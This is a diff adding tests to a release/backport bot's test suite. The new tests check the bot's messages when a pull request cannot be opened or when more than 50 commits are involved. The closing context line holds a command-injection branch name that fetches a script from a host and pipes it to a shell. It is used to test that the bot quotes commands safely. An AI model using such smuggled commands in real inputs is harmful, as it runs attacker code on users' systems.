@@ -445,6 +445,30 @@ async def test_a_conflict_leaves_nothing_and_says_exactly_what_to_do(town: Town)
     assert len(await owed(town)) == 2
 
 
+async def test_where_only_the_pull_request_is_missing_only_that_is_to_be_done(town: Town) -> None:
+    town.github.moving.takes_none = "GitHub refuses a request about acme/checkout: it is archived"
+    fix = town.github.moving.somebody_commits("main", "Put the totals right")
+    await ports(town, f"{fix} to:release/1.5")
+    told = posted(town, f"✗ {fix[:7]} cannot be brought to release/1.5 by itself: GitHub refuses")
+    assert "archived. backport/ABC-9-to-1.5 holds it already. That is for" in str(told.now["text"])
+    assert list(told.now["body"]) == ["• gh pr create --base release/1.5 --head backport/ABC-9-to-1.5"]
+
+
+async def test_very_many_commits_are_for_people_to_bring(town: Town) -> None:
+    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
+    for number in range(50):
+        town.github.moving.somebody_commits("hotfix/1.4.2-ABC-9", f"Part {number}")
+    fix = fixed(town)
+    await releases(town)
+    told = posted(town, f"✗ 51 commits up to {fix[:7]} cannot be brought to main by itself")
+    assert "more than 50 commits are not picked one by one. Nothing was left there." in str(told.now["text"])
+    assert await owed(town) == [
+        f"the hotfix is merged: 51 commits up to {fix[:7]} into main",
+        f"the hotfix is merged: 51 commits up to {fix[:7]} into release/1.5",
+    ]
+    assert town.github.moving.pulls == []
+
+
 async def test_what_is_to_be_typed_is_safe_to_type_whatever_branches_are_called(town: Town) -> None:
     evil = "release/1.6;curl${IFS}example.org|sh"
     town.github.branches[evil] = commit("checkout", 2)
